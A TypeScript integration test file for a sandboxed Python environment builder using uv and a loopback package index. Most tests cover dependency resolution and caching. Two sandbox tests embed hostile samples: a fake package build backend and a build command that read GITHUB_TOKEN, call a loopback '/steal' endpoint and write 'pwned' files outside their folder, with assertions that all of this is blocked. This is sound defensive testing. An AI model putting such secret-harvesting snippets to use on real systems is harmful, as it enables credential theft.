import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readFileSync, readdirSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { UvEnvBuilder } from '../../src/env/uv-builder.js';
import { findBinary, probeSandbox } from '../../src/exec/sandbox/sandbox.js';
import { backendSource, indexSpec, makeDists, requirement, startLoopbackIndex, type LoopbackIndex } from '../helpers/loopback-pypi.js';
import { removeTree } from '../../src/env/build/seal-env.js';
import { makeTempDir } from '../helpers/temp-dir.js';

// Real uv (scripts/ensure-system.sh installs 0.13.9), real bwrap, real Python; the only index is a loopback one
// serving distributions built here. Nothing reaches the internet.

const PYTHON = '/usr/bin/python3';

const req = requirement;
const spec = indexSpec;

const SNOOP = `
import os, socket, urllib.request
seen = {"token": os.environ.get("GITHUB_TOKEN"), "keys": sorted(os.environ)}
def _try_direct():
    try:
        socket.create_connection(("127.0.0.1", OTHER_PORT), timeout=3).close()
        return "reached"
    except OSError as e:
        return "blocked: %s" % e.__class__.__name__
def _try_proxy():
    try:
        urllib.request.urlopen("http://127.0.0.1:%d/steal" % OTHER_PORT, timeout=5).read()
        return "reached"
    except Exception as e:
        return "blocked: %s" % e.__class__.__name__
seen["direct"] = _try_direct()
seen["proxied"] = _try_proxy()
for _key, _path in (("base", BASE_FILE), ("envs", ENVS_FILE), ("host", HOST_FILE)):
    try:
        with open(_path, "w") as _f:
            _f.write("pwned")
        seen[_key] = "written"
    except OSError as _e:
        seen[_key] = "blocked: " + _e.__class__.__name__
INIT = "SEEN = %r\\n" % (seen,)
`;

/** A module that fails as TensorFlow does beside too old a numpy: a SystemError inside `__import__`, naming nothing. */
const NEEDS_NUMPY = (least: string): string =>
  `import numpy\nif tuple(int(x) for x in numpy.__version__.split('.')[:2]) < (${least.split('.').map(Number).join(', ')},):\n` +
  "    raise SystemError('<built-in function __import__> returned a result with an exception set')\n";

describe('UvEnvBuilder (uv in the sandbox, a loopback index)', () => {
  let root: string;
  let dists: string;
  let index: LoopbackIndex;
  let other: Server;
  let otherHits = 0;
  let builder: UvEnvBuilder;
  let builderOptions: ConstructorParameters<typeof UvEnvBuilder>[0];
  const signal = new AbortController().signal;

  beforeAll(async () => {
    root = makeTempDir('repgen-envbuild-');
    chmodSync(root, 0o711); // the sandbox's uid must reach the cache below it
    dists = join(root, 'dists');
    mkdirSync(dists);
    other = createServer((_req, res) => {
      otherHits++;
      res.end('secret accepted');
    });
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
    const otherPort = (other.address() as AddressInfo).port;
    makeDists(dists, [
      { name: 'alpha', version: '1.0', requires: ['beta>=1'] },
      { name: 'alpha', version: '2.0', requires: ['beta>=1'] },
      { name: 'beta', version: '1.1' },
      { name: 'beta', version: '0.9' },
      { name: 'epsilon', version: '1.0', requires: ['beta==0.9'] },
      { name: 'delta', version: '1.0', tag: 'cp38-cp38-manylinux2014_x86_64' },
      {
        name: 'delta',
        version: '1.0',
        backend: backendSource('delta', '1.0', 'raise RuntimeError("a compiled package built from source")'),
      },
      { name: 'delta', version: '1.2', tag: 'cp311-cp311-manylinux2014_x86_64' },
      { name: 'delta', version: '1.3', tag: 'cp311-cp311-manylinux2014_x86_64' },
      // PyTorch's index's way: the same torch release as a CUDA build (a +cu local tag), and a package that needs it.
      { name: 'torch', version: '8.0+cu128', init: "__version__ = '8.0+cu128'\n" },
      { name: 'uses-torch', version: '1.0', requires: ['torch>=8,<9', 'beta'] },
      // tensorboard's way: a dependency that needs a newer release than the commit's era caps its dependency at.
      { name: 'tb', version: '1.0', requires: ['pb>=3'] },
      { name: 'pb', version: '2.0' },
      { name: 'pb', version: '3.0' },
      // A package whose metadata admits the base's numpy (Debian's 1.24) but whose code needs numpy.exceptions (1.25),
      // as scipy 1.15 does, and a numpy on the index that has it.
      { name: 'zeta', version: '1.0', requires: ['numpy>=1.19,<2'], init: 'from numpy.exceptions import AxisError\n' },
      // TensorFlow 2.21's way: it declares numpy>=1.26.0, and beside an older numpy its import fails with a SystemError
      // that names no package (the import check cannot blame numpy; the metadata can). theta needs NumPy 2.
      { name: 'eta', version: '1.0', requires: ['numpy>=1.25,<2'], init: NEEDS_NUMPY('1.25') },
      { name: 'theta', version: '1.0', requires: ['numpy>=2'], init: NEEDS_NUMPY('2.0') },
      { name: 'numpy', version: '2.0.0', init: "__version__ = '2.0.0'\n" },
      // scikit-learn's way: its newest wants NumPy 2 (through scipy), an older release runs on NumPy 1.
      { name: 'iota', version: '2.0', requires: ['numpy>=2'] },
      { name: 'iota', version: '1.0', requires: ['numpy>=1.25'] },
      {
        name: 'numpy',
        version: '1.26.0',
        init: "import sys, types\nexceptions = types.ModuleType('numpy.exceptions')\nexceptions.AxisError = ValueError\nsys.modules['numpy.exceptions'] = exceptions\n__version__ = '1.26.0'\n",
      },
      // A package whose code needs a newer torch than the base's, and a (tiny, fake) torch on the index that has it.
      { name: 'needs-new-torch', version: '1.0', requires: ['torch>=1.0'], init: 'import torch\nassert torch.NEW_API\n' },
      { name: 'torch', version: '9.0', init: "__version__ = '9.0'\nNEW_API = True\n" },
      // kappa needs omega (which the base provides in the test below) and light; only omega needs heavy.
      { name: 'kappa', version: '1.0', requires: ['omega', 'light'] },
      { name: 'omega', version: '1.0', requires: ['heavy'] },
      { name: 'heavy', version: '1.0' },
      { name: 'light', version: '1.0' },
      { name: 'broken', version: '1.0', backend: backendSource('broken', '1.0', 'raise RuntimeError("this sdist does not build here")') },
      {
        name: 'nosy',
        version: '1.0',
        backend: backendSource(
          'nosy',
          '1.0',
          SNOOP.replace(/OTHER_PORT/g, String(otherPort))
            .replace('BASE_FILE', JSON.stringify('/usr/lib/python3/dist-packages/repgen_pwned.py'))
            .replace('ENVS_FILE', JSON.stringify(join(root, 'cache', 'envs', 'pwned')))
            .replace('HOST_FILE', JSON.stringify(join(root, 'outside.txt'))),
        ),
      },
    ]);
    index = await startLoopbackIndex(dists);
    const uv = findBinary('uv');
    if (!uv) throw new Error('uv not found: run scripts/ensure-system.sh');
    const plan = await probeSandbox('bwrap', { workRoot: tmpdir() });
    builderOptions = { cacheRoot: join(root, 'cache'), uv, basePython: PYTHON, plan };
    builder = new UvEnvBuilder(builderOptions);
  }, 60_000);

  afterAll(async () => {
    await index?.close();
    await new Promise<void>((resolve) => (other ? other.close(() => resolve()) : resolve()));
    await removeTree(root); // sealed envs' folders are read-only
  });

  it('resolves the requirements and their dependencies from the index into a lock and a venv', async () => {
    const result = await builder.build(spec(index, [req('alpha')]), { checkout: null, signal });
    if (!result.ok) throw new Error(JSON.stringify(result.failure));
    expect(result.env.pins).toEqual({ alpha: '2.0', beta: '1.1' });
    expect(result.env.lock).toBe('alpha==2.0\nbeta==1.1\n');
    expect(result.env.cached).toBe(false);
    expect(result.env.python).toMatch(/\/envs\/[0-9a-f]{64}\/bin\/python$/);
    const site = join(result.env.readOnlyPaths[0] as string, 'lib', 'python3.11', 'site-packages');
    expect(readdirSync(site)).toEqual(expect.arrayContaining(['alpha', 'beta']));
  });

  it('reuses the venv of a lock it has built: marked cached, no request to the index', async () => {
    const s = spec(index, [req('alpha', '>=1')]);
    const first = await builder.build(s, { checkout: null, signal });
    if (!first.ok) throw new Error(JSON.stringify(first.failure));
    const before = index.requests.length;
    const phases: string[] = [];
    const second = await builder.build(s, { checkout: null, signal, onProgress: (p) => phases.push(p.phase) });
    if (!second.ok) throw new Error(JSON.stringify(second.failure));
    expect(second.env.cached).toBe(true);
    expect(second.env.python).toBe(first.env.python);
    expect(phases).toEqual(['reused']);
    expect(index.requests.length).toBe(before);
  });

  it("drops the scope's uv cache once the venv is published: the venv is what is reused, the cache a second copy", async () => {
    const s = spec(index, [req('beta', '==1.1')]);
    const scopes = (): string[] => readdirSync(join(root, 'cache', 'work')).filter((n) => n.startsWith('s-'));
    const before = new Set(scopes());
    const built = await builder.build(s, { checkout: null, signal });
    if (!built.ok) throw new Error(JSON.stringify(built.failure));
    const mine = scopes().filter((n) => !before.has(n));
    expect(mine).toHaveLength(1);
    expect(readdirSync(join(root, 'cache', 'work', mine[0] as string))).toEqual([]);
    const again = await builder.build(s, { checkout: null, signal });
    expect(again.ok && again.env.cached).toBe(true);
  });

  it('builds a second venv of the same lock (another project layout) from its scope’s uv cache with no request to the index, when the cache is kept', async () => {
    // REPGEN_ENV_KEEP_UV_CACHE: the scope's cache outlives its first venv. A requirement no earlier test built: the
    // first build installs into this scope's cache (builds of another compile input have caches of their own).
    const keeping = new UvEnvBuilder({ ...builderOptions, keepUvCache: true });
    const base = spec(index, [req('alpha', '==1.0')]);
    const first = await keeping.build(base, { checkout: null, signal });
    if (!first.ok) throw new Error(JSON.stringify(first.failure));
    const before = index.requests.length;
    const project = { root: '', importRoots: ['src'], mode: 'pth' as const, distribution: 'myproj', extensions: [] };
    const withProject = await keeping.build(
      { ...base, project, requirements: [...base.requirements, req('myproj')] },
      { checkout: null, signal },
    );
    if (!withProject.ok) throw new Error(JSON.stringify(withProject.failure));
    expect(withProject.env.cached).toBe(false);
    expect(withProject.env.lockHash).toBe(first.env.lockHash);
    expect(withProject.env.python).not.toBe(first.env.python);
    expect(index.requests.length).toBe(before);
    const site = join(withProject.env.readOnlyPaths[0] as string, 'lib', 'python3.11', 'site-packages');
    expect(readFileSync(join(site, '_repgen_project.pth'), 'utf8')).toBe('/workspace/src\n');
  });

  it('replaces a version the index does not have by the nearest one and says so', async () => {
    const result = await builder.build(spec(index, [req('alpha', '==1.5')]), { checkout: null, signal });
    if (!result.ok) throw new Error(JSON.stringify(result.failure));
    expect(result.env.pins.alpha).toBe('1.0');
    expect(result.env.substitutions).toEqual([expect.objectContaining({ name: 'alpha', wanted: '1.5', got: '1.0' })]);
    const again = await builder.build(spec(index, [req('alpha', '==1.5')]), { checkout: null, signal });
    if (!again.ok) throw new Error(JSON.stringify(again.failure));
    expect(again.env.cached).toBe(true);
    expect(again.env.substitutions).toEqual(result.env.substitutions);
  });

  it("relaxes a report's pin that conflicts with the other requirements, says so, and never relaxes the repository's", async () => {
    const reported = { ...req('beta', '==1.1'), source: 'report' as const };
    const result = await builder.build(spec(index, [req('epsilon'), reported]), { checkout: null, signal });
    if (!result.ok) throw new Error(JSON.stringify(result.failure));
    expect(result.env.pins.beta).toBe('0.9');
    expect(result.env.substitutions).toEqual([
      expect.objectContaining({ name: 'beta', wanted: '1.1', why: expect.stringContaining('(from the report) conflicts') }),
    ]);
    const fromRepo = await builder.build(spec(index, [req('epsilon'), req('beta', '==1.1')]), { checkout: null, signal });
    expect(fromRepo.ok).toBe(false);
  });

  it('installs only what the base interpreter does not provide (an overlay), in a venv that sees the base', async () => {
    const result = await builder.build(spec(index, [req('alpha')], { baseProvides: ['beta'] }), { checkout: null, signal });
    if (!result.ok) throw new Error(JSON.stringify(result.failure));
    expect(Object.keys(result.env.pins)).toEqual(['alpha']);
    const cfg = readFileSync(join(result.env.python, '..', '..', 'pyvenv.cfg'), 'utf8');
    expect(cfg).toMatch(/include-system-site-packages = true/);
  });

  it('leaves out of an overlay what only the base-provided packages pull in (the CUDA packages beside the base torch)', async () => {
    const result = await builder.build(spec(index, [req('kappa')], { baseProvides: ['omega'] }), { checkout: null, signal });
    if (!result.ok) throw new Error(JSON.stringify(result.failure));
    expect(result.env.pins).toEqual({ kappa: '1.0', light: '1.0' });
    const plain = await builder.build(spec(index, [req('kappa')]), { checkout: null, signal });
    if (!plain.ok) throw new Error(JSON.stringify(plain.failure));
    expect(plain.env.pins).toEqual({ kappa: '1.0', omega: '1.0', heavy: '1.0', light: '1.0' });
  });

  it("takes nothing from the base when the lock's own modules need another torch (the base's torchvision would hang beside it)", async () => {
    const result = await builder.build(spec(index, [req('needs-new-torch')], { baseProvides: ['torch', 'numpy', 'beta'] }), {
      checkout: null,
      signal,
    });
    if (!result.ok) throw new Error(JSON.stringify(result.failure));
    expect(result.env.pins).toEqual({ 'needs-new-torch': '1.0', torch: '9.0' });
    const cfg = readFileSync(join(result.env.python, '..', '..', 'pyvenv.cfg'), 'utf8');
    expect(cfg).toMatch(/include-system-site-packages = false/);
    expect(result.env.substitutions).toEqual([expect.objectContaining({ name: 'torch', got: '9.0' })]);
    const again = await builder.build(spec(index, [req('needs-new-torch')], { baseProvides: ['torch', 'numpy', 'beta'] }), {
      checkout: null,
      signal,
    });
    if (!again.ok) throw new Error(JSON.stringify(again.failure));
    expect(again.env.cached).toBe(true);
    expect(again.env.python).toBe(result.env.python);
  });

  it("installs a base package the lock's own modules find too old, at the lock's version, and says so (the overlay's import check)", async () => {
    const numpyBase = execFileSync(PYTHON, ['-I', '-c', 'import numpy; print(numpy.__version__)'], { encoding: 'utf8' }).trim();
    expect(numpyBase).not.toBe('1.26.0');
    const scopes = (): string[] => readdirSync(join(root, 'cache', 'work')).filter((n) => n.startsWith('s-'));
    const before = new Set(scopes());
    const result = await builder.build(spec(index, [req('zeta')], { baseProvides: ['numpy', 'beta'] }), { checkout: null, signal });
    if (!result.ok) throw new Error(JSON.stringify(result.failure));
    expect(result.env.pins).toEqual({ zeta: '1.0', numpy: '1.26.0' });
    // Built twice in one scope (the second while the first's folder stood): the scope's cache is dropped all the same.
    const mine = scopes().filter((n) => !before.has(n));
    expect(mine.map((n) => readdirSync(join(root, 'cache', 'work', n)))).toEqual([[]]);
    expect(result.env.substitutions).toEqual([
      expect.objectContaining({
        name: 'numpy',
        wanted: `${numpyBase} (the base interpreter’s)`,
        got: '1.26.0',
        why: expect.stringContaining("zeta fails to import with it (ModuleNotFoundError: No module named 'numpy.exceptions')"),
      }),
    ]);
    expect(execFileSync(result.env.python, ['-I', '-c', 'import zeta, numpy; print(numpy.__version__)'], { encoding: 'utf8' }).trim()).toBe(
      '1.26.0',
    );
    const again = await builder.build(spec(index, [req('zeta')], { baseProvides: ['numpy', 'beta'] }), { checkout: null, signal });
    if (!again.ok) throw new Error(JSON.stringify(again.failure));
    expect(again.env.cached).toBe(true);
    expect(again.env.python).toBe(result.env.python);
    expect(again.env.substitutions).toEqual(result.env.substitutions);
  });

  it("installs a base package outside what the lock's packages declare, at the lock's version, though its import names nothing", async () => {
    const numpyBase = execFileSync(PYTHON, ['-I', '-c', 'import numpy; print(numpy.__version__)'], { encoding: 'utf8' }).trim();
    expect(numpyBase).toMatch(/^1\.2[0-4]\./);
    const result = await builder.build(spec(index, [req('eta')], { baseProvides: ['numpy', 'beta'] }), { checkout: null, signal });
    if (!result.ok) throw new Error(JSON.stringify(result.failure));
    expect(result.env.pins).toEqual({ eta: '1.0', numpy: '1.26.0' });
    expect(result.env.substitutions).toEqual([
      expect.objectContaining({
        name: 'numpy',
        wanted: `${numpyBase} (the base interpreter’s)`,
        got: '1.26.0',
        why: expect.stringContaining(`eta 1.0 requires numpy>=1.25,<2, which the base's ${numpyBase} is not`),
      }),
    ]);
    // Still an overlay: NumPy 1.26 keeps 1.x's C-API, so the base's packages built for its numpy still load beside it.
    expect(readFileSync(join(result.env.python, '..', '..', 'pyvenv.cfg'), 'utf8')).toMatch(/include-system-site-packages = true/);
    expect(execFileSync(result.env.python, ['-I', '-c', 'import eta, numpy; print(numpy.__version__)'], { encoding: 'utf8' }).trim()).toBe(
      '1.26.0',
    );
    const again = await builder.build(spec(index, [req('eta')], { baseProvides: ['numpy', 'beta'] }), { checkout: null, signal });
    if (!again.ok) throw new Error(JSON.stringify(again.failure));
    expect(again.env.cached).toBe(true);
  });

  it("takes nothing from the base when the lock needs a numpy of another major (the base's packages are built for NumPy 1)", async () => {
    const result = await builder.build(spec(index, [req('theta')], { baseProvides: ['numpy', 'pandas', 'beta'] }), {
      checkout: null,
      signal,
    });
    if (!result.ok) throw new Error(JSON.stringify(result.failure));
    expect(result.env.pins).toEqual({ theta: '1.0', numpy: '2.0.0' });
    // The evidence's key versions read this: nothing of the base is in the env, whatever the spec offered.
    expect(result.env.fromBase).toEqual([]);
    expect(readFileSync(join(result.env.python, '..', '..', 'pyvenv.cfg'), 'utf8')).toMatch(/include-system-site-packages = false/);
    expect(result.env.substitutions).toEqual([
      expect.objectContaining({ name: 'numpy', got: '2.0.0', why: expect.stringContaining('the env takes nothing from the base') }),
    ]);
    const seen = 'import theta, numpy, importlib.util as u; print(numpy.__version__, u.find_spec("pandas") is None)';
    expect(execFileSync(result.env.python, ['-I', '-c', seen], { encoding: 'utf8' }).trim()).toBe('2.0.0 True');
  });

  it("keeps an overlay in the base's numpy major where a release of the lock allows it (an older iota rather than NumPy 2)", async () => {
    const overlay = await builder.build(spec(index, [req('iota')], { baseProvides: ['numpy', 'pandas'] }), { checkout: null, signal });
    if (!overlay.ok) throw new Error(JSON.stringify(overlay.failure));
    expect(overlay.env.pins).toEqual({ iota: '1.0', numpy: '1.26.0' });
    expect(overlay.env.fromBase).toEqual(['pandas']);
    expect(readFileSync(join(overlay.env.python, '..', '..', 'pyvenv.cfg'), 'utf8')).toMatch(/include-system-site-packages = true/);
    // No numpy from the base, or a requirement that names numpy: the newest, as asked.
    const own = await builder.build(spec(index, [req('iota')]), { checkout: null, signal });
    expect(own.ok && own.env.pins).toEqual({ iota: '2.0', numpy: '2.0.0' });
    const named = await builder.build(spec(index, [req('iota'), req('numpy', '>=1.20')], { baseProvides: ['numpy'] }), {
      checkout: null,
      signal,
    });
    expect(named.ok && named.env.pins.iota).toBe('2.0');
  });

  it('moves a compiled package pinned to a version with no wheel for this Python to the nearest one with a wheel', async () => {
    const result = await builder.build(spec(index, [req('delta', '==1.0')]), { checkout: null, signal });
    if (!result.ok) throw new Error(JSON.stringify(result.failure));
    expect(result.env.pins.delta).toBe('1.2');
    expect(result.env.substitutions).toEqual([
      expect.objectContaining({ name: 'delta', wanted: '1.0', got: '1.2', why: expect.stringMatching(/no wheel/) }),
    ]);
  });

  it('moves a range with no release that installs on this Python to the nearest release that does, and says so (numpy<=1.17.5)', async () => {
    const result = await builder.build(spec(index, [req('delta', '<=1.1')]), { checkout: null, signal });
    if (!result.ok) throw new Error(JSON.stringify(result.failure));
    expect(result.env.pins.delta).toBe('1.2');
    expect(result.env.substitutions).toEqual([
      expect.objectContaining({
        name: 'delta',
        wanted: '<=1.1',
        got: '1.2',
        why: expect.stringMatching(/no release in <=1\.1 installs on Python 3\.11/),
      }),
    ]);
  });

  it('retries a resolution the era’s cap makes impossible without that cap, and says so (tensorboard beside an old protobuf)', async () => {
    const capped = { ...req('pb', '<2.1'), source: 'era' as const, why: 'capped <2.1: the ref is of 2019' };
    const result = await builder.build(spec(index, [req('tb'), capped]), { checkout: null, signal });
    if (!result.ok) throw new Error(JSON.stringify(result.failure));
    expect(result.env.pins).toEqual({ tb: '1.0', pb: '3.0' });
    expect(result.env.substitutions).toEqual([
      expect.objectContaining({
        name: 'pb',
        wanted: '<2.1 (the era of the commit)',
        why: expect.stringContaining("the era's cap pb<2.1 conflicts"),
      }),
    ]);
    // The repository's own bound is never dropped.
    const own = await builder.build(spec(index, [req('tb'), req('pb', '<2.1')]), { checkout: null, signal });
    expect(own.ok).toBe(false);
  });

  it('moves an era cap no release of which installs on this Python to the nearest release that does, not the newest (numpy<1.20 on 3.11)', async () => {
    const capped = { ...req('delta', '<1.1'), source: 'era' as const, why: 'capped <1.1: the ref is of 2020' };
    const result = await builder.build(spec(index, [capped]), { checkout: null, signal });
    if (!result.ok) throw new Error(JSON.stringify(result.failure));
    // 1.0 has a wheel for Python 3.8 only; 1.2 is the nearest with one for 3.11 (the newest is 1.3).
    expect(result.env.pins).toEqual({ delta: '1.2' });
    expect(result.env.substitutions).toEqual([
      expect.objectContaining({
        name: 'delta',
        wanted: '<1.1 (the era of the commit)',
        got: '1.2',
        why: expect.stringMatching(
          /no release in the era's cap delta<1\.1 installs on Python 3\.11.*; 1\.2, the nearest release that does/,
        ),
      }),
    ]);
  });

  it('drops a CUDA local version (2.0+cu129) for the public release of the same version', async () => {
    const result = await builder.build(spec(index, [req('alpha', '==2.0+cu129')]), { checkout: null, signal });
    if (!result.ok) throw new Error(JSON.stringify(result.failure));
    expect(result.env.pins.alpha).toBe('2.0');
    expect(result.env.substitutions).toEqual([expect.objectContaining({ name: 'alpha', wanted: '2.0+cu129', got: '2.0' })]);
  });

  it('takes a local-label wheel of a find-links folder over the index’s newer release (the CPU torch case)', async () => {
    const local = join(root, 'wheels');
    mkdirSync(local, { recursive: true });
    makeDists(local, [{ name: 'beta', version: '1.0+cpu' }]);
    chmodSync(local, 0o755);
    const result = await builder.build(spec(index, [req('alpha')], { findLinks: [local] }), { checkout: null, signal });
    if (!result.ok) throw new Error(JSON.stringify(result.failure));
    expect(result.env.pins).toEqual({ alpha: '2.0', beta: '1.0+cpu' });
    const conflicting = await builder.build(spec(index, [req('epsilon')], { findLinks: [local] }), { checkout: null, signal });
    if (!conflicting.ok) throw new Error(JSON.stringify(conflicting.failure));
    expect(conflicting.env.pins).toEqual({ epsilon: '1.0', beta: '0.9' });
  });

  it('takes the CPU torch of a find-links folder over the index’s CUDA build of the same version (a +cu local tag)', async () => {
    const local = join(root, 'cpu-wheels');
    mkdirSync(local, { recursive: true });
    makeDists(local, [{ name: 'torch', version: '8.0+cpu', init: "__version__ = '8.0+cpu'\n" }]);
    chmodSync(local, 0o755);
    const before = index.requests.length;
    const result = await builder.build(spec(index, [req('uses-torch'), req('torch', '==8.0')], { findLinks: [local] }), {
      checkout: null,
      signal,
    });
    if (!result.ok) throw new Error(JSON.stringify(result.failure));
    expect(result.env.pins).toEqual({ 'uses-torch': '1.0', beta: '1.1', torch: '8.0+cpu' });
    // The CUDA wheel was never downloaded.
    expect(index.requests.slice(before).filter((r) => r.includes('/files/torch-'))).toEqual([]);
    // A conflict elsewhere whose message names a package called like it (`uses-torch`) keeps the CPU torch.
    const reported = { ...req('beta', '==1.1'), source: 'report' as const };
    const conflict = await builder.build(spec(index, [req('uses-torch'), req('epsilon'), reported], { findLinks: [local] }), {
      checkout: null,
      signal,
    });
    if (!conflict.ok) throw new Error(JSON.stringify(conflict.failure));
    expect(conflict.env.pins).toEqual({ 'uses-torch': '1.0', epsilon: '1.0', beta: '0.9', torch: '8.0+cpu' });
  });

  it('fails with the package and no substitution when nothing of that name exists', async () => {
    const result = await builder.build(spec(index, [req('gamma', '==9.0')]), { checkout: null, signal });
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.failure).toMatchObject({ step: 'resolve', package: 'gamma', configKey: 'environment.packages' });
    expect(result.failure.logTail).toContain('gamma');
  });

  it('reports a source distribution whose build fails as an EnvBuildFailure naming it, when the report or the script needs it', async () => {
    const asked = { ...req('broken'), source: 'script' as const };
    const result = await builder.build(spec(index, [asked]), { checkout: null, signal });
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.failure).toMatchObject({ step: 'install', package: 'broken', configKey: 'environment.packages' });
    expect(result.failure.logTail).toContain('this sdist does not build here');
  });

  it('leaves out a dependency only the repository declares whose build fails here, builds the rest, and says so', async () => {
    const result = await builder.build(spec(index, [req('alpha'), req('broken')]), { checkout: null, signal });
    if (!result.ok) throw new Error(JSON.stringify(result.failure));
    expect(result.env.pins).toEqual({ alpha: '2.0', beta: '1.1' });
    expect(result.env.substitutions).toEqual([expect.objectContaining({ name: 'broken', got: 'left out' })]);
  });

  it('uses the machine’s Python for another version asked, and says so', async () => {
    const result = await builder.build(spec(index, [req('beta')], { python: '3.8' }), { checkout: null, signal });
    if (!result.ok) throw new Error(JSON.stringify(result.failure));
    expect(result.env.pythonVersion).toMatch(/^3\.11\./);
    expect(result.env.substitutions).toEqual([expect.objectContaining({ name: 'python', wanted: '3.8', got: '3.11' })]);
  });

  it('runs repgen.yml build commands in the new venv, and reports one that fails', async () => {
    const ok = await builder.build(
      spec(index, [req('beta')], { buildCommands: ['python -c "import beta" && echo built > "$VIRTUAL_ENV/marker"'] }),
      {
        checkout: null,
        signal,
      },
    );
    if (!ok.ok) throw new Error(JSON.stringify(ok.failure));
    expect(readFileSync(join(ok.env.readOnlyPaths[0] as string, 'marker'), 'utf8')).toBe('built\n');
    const bad = await builder.build(spec(index, [req('beta')], { buildCommands: ['echo nope >&2; exit 3'] }), { checkout: null, signal });
    expect(bad.ok).toBe(false);
    if (bad.ok) return;
    expect(bad.failure).toMatchObject({ step: 'build-command', configKey: 'environment.build' });
    expect(bad.failure.logTail).toContain('nope');
  });

  it('runs a repgen.yml build command with no secret, no other host, and nothing written outside the env folder', async () => {
    const port = (other.address() as AddressInfo).port;
    const hostile = [
      'env > "$VIRTUAL_ENV/seen-env.txt"',
      `python -c "import socket; socket.create_connection(('127.0.0.1', ${port}), timeout=3)" 2> "$VIRTUAL_ENV/seen-direct.txt" || true`,
      `python -c "import urllib.request as u; u.urlopen('http://127.0.0.1:${port}/steal', timeout=5)" 2> "$VIRTUAL_ENV/seen-proxied.txt" || true`,
      `echo pwned > ${JSON.stringify(join(root, 'outside-cmd.txt'))} || true`,
    ].join('; ');
    process.env.GITHUB_TOKEN = 'ghs_fake_secret_for_the_test';
    const hits = otherHits;
    try {
      const r = await builder.build(spec(index, [req('beta')], { buildCommands: [hostile] }), { checkout: null, signal });
      if (!r.ok) throw new Error(JSON.stringify(r.failure));
      const venv = r.env.readOnlyPaths[0] as string;
      expect(readFileSync(join(venv, 'seen-env.txt'), 'utf8')).not.toMatch(/GITHUB_TOKEN|ghs_fake/);
      expect(readFileSync(join(venv, 'seen-direct.txt'), 'utf8')).toMatch(/Error/);
      expect(readFileSync(join(venv, 'seen-proxied.txt'), 'utf8')).toMatch(/Error/);
      expect(otherHits).toBe(hits);
      expect(existsSync(join(root, 'outside-cmd.txt'))).toBe(false);
    } finally {
      delete process.env.GITHUB_TOKEN;
    }
  });

  it('holds a build step to its memory ceiling (a cgroup, as runs get)', async (ctx) => {
    const plan = await probeSandbox('bwrap', { workRoot: tmpdir() });
    if (!plan.cgroups) return ctx.skip();
    const small = new UvEnvBuilder({
      cacheRoot: join(root, 'cache'),
      uv: findBinary('uv') as string,
      basePython: PYTHON,
      plan,
      memoryBytes: 128 << 20,
    });
    const hog = 'python -c "x = bytearray(1 << 30); print(len(x))"';
    const result = await small.build(spec(index, [req('beta')], { buildCommands: [hog] }), { checkout: null, signal });
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.failure.step).toBe('build-command');
    expect(result.failure.logTail).toMatch(/out of memory|MemoryError/);
  });

  it('stops a build that is cancelled', async () => {
    const aborted = AbortSignal.abort();
    const result = await builder.build(spec(index, [req('alpha', '<2')]), { checkout: null, signal: aborted });
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.failure.step).toBe('timeout');
  });

  it('builds without a sandbox when the operator chose REPGEN_SANDBOX=none (no proxy, the host network)', async () => {
    const plan = await probeSandbox('none', { workRoot: tmpdir() });
    const bare = new UvEnvBuilder({ cacheRoot: join(root, 'cache-none'), uv: findBinary('uv') as string, basePython: PYTHON, plan });
    const result = await bare.build(spec(index, [req('alpha')]), { checkout: null, signal });
    if (!result.ok) throw new Error(JSON.stringify(result.failure));
    expect(result.env.pins).toEqual({ alpha: '2.0', beta: '1.1' });
  });

  it('builds a source distribution with none of RepGen’s secrets and no way to another host', async () => {
    process.env.GITHUB_TOKEN = 'ghs_fake_secret_for_the_test';
    try {
      const result = await builder.build(spec(index, [req('nosy')]), { checkout: null, signal });
      if (!result.ok) throw new Error(JSON.stringify(result.failure));
      const site = join(result.env.readOnlyPaths[0] as string, 'lib', 'python3.11', 'site-packages');
      const seen = readFileSync(join(site, 'nosy', '__init__.py'), 'utf8');
      expect(seen).toContain("'token': None");
      expect(seen).not.toContain('ghs_fake');
      expect(seen).toMatch(/'direct': 'blocked/);
      expect(seen).toMatch(/'proxied': 'blocked/);
      expect(otherHits).toBe(0);
      // It writes only the build folder: the base interpreter is read-only, the finished envs and any other host
      // folder are not in its view (a write there lands in the sandbox's own tmpfs and is gone with it).
      expect(seen).toMatch(/'base': 'blocked: OSError/);
      expect(existsSync('/usr/lib/python3/dist-packages/repgen_pwned.py')).toBe(false);
      expect(existsSync(join(root, 'cache', 'envs', 'pwned'))).toBe(false);
      expect(existsSync(join(root, 'outside.txt'))).toBe(false);
    } finally {
      delete process.env.GITHUB_TOKEN;
    }
  });
});
